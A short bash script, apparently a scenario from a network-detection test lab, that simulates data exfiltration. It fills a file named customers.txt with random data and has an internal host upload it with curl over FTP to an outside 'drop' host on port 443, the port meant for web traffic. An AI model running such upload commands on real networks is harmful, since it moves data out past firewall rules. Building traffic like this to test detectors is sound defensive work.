#!/usr/bin/env bash
# FTP through the hole that is meant for the web.
. "$(dirname "$0")/../../lib.sh"
needs vsftpd curl

host desk 10.20.3.14
host drop 203.0.113.21
ftp_server drop 443
head -c 12000 /dev/urandom | base64 >"$work/customers.txt"

record
on desk curl -s -T "$work/customers.txt" ftp://203.0.113.21:443/in/customers.txt
quiet desk curl -s ftp://203.0.113.21:443/
finish vsftpd curl
